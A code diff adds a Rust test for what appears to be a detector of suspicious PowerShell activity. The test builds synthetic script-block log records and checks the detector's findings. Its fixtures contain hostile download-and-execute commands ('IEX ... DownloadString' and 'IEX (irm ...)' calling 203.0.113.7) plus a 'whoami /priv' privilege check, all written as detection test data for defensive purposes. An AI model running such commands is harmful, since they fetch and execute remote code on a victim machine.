@@ -144,3 +144,57 @@ fn without_executions_nothing_is_assessed() {
     let (ran, reason) = part.searched("script-content");
     assert!(ran && reason.is_some_and(|reason| reason.contains("1 of 2")));
 }
+
+/// Records of PowerShell's script-block log, as wevtutil's JSON renders them: (block, part, of, text).
+fn logged(blocks: &[(&str, i64, i64, &str)]) -> Table {
+    let rows = blocks.iter().zip(0..).map(|((block, part, parts, text), number)| {
+        json!({ "Event": {
+            "System": {
+                "Provider": { "#attributes": { "Name": "Microsoft-Windows-PowerShell" } },
+                "EventID": 4104, "EventRecordID": 100 + number, "Channel": "Microsoft-Windows-PowerShell/Operational", "Computer": "WIN01",
+                "TimeCreated": { "#attributes": { "SystemTime": format!("2024-05-01T10:00:0{number}.000000Z") } },
+            },
+            "EventData": { "MessageNumber": part, "MessageTotal": parts, "ScriptBlockText": text, "ScriptBlockId": block, "Path": "" },
+        } })
+        .to_string()
+    });
+    let text: Vec<String> = rows.collect();
+    Table::default().file("powershell.json", text.join("\n"))
+}
+
+/// A block that no run claims is judged as it stands in the log: its parts joined, one finding for one text, that it was a run command's not claimed.
+#[test]
+fn scripts_that_only_the_log_knows() {
+    let table = logged(&[
+        ("b1", 1, 2, "IEX (New-Object Net.Web"),
+        (
+            "b1",
+            2,
+            2,
+            "Client).DownloadString('http://203.0.113.7/a.ps1')",
+        ),
+        ("b2", 1, 1, "Get-Date"),
+    ]);
+    let found = table.finds("script-content");
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert_eq!(found[0].values["source"], "script-block-log");
+    assert_eq!(
+        (
+            found[0].events.len(),
+            found[0].executions.len(),
+            found[0].confidence.word(),
+            found[0].subject.host.as_deref()
+        ),
+        (2, 0, "medium", Some("WIN01"))
+    );
+    // The same text again is the same script; the other part of a cut expression alone says less.
+    let again = logged(&[
+        ("b1", 1, 1, "whoami /priv; IEX (irm http://203.0.113.7/a)"),
+        ("b3", 1, 1, "whoami /priv; IEX (irm http://203.0.113.7/a)"),
+    ]);
+    let found = again.finds("script-content");
+    assert_eq!((found.len(), found[0].events.len()), (1, 2));
+    let clean = logged(&[("b2", 1, 1, "Get-Date")]);
+    assert!(clean.finds("script-content").is_empty());
+    assert_eq!(clean.searched("script-content"), (true, None));
+}
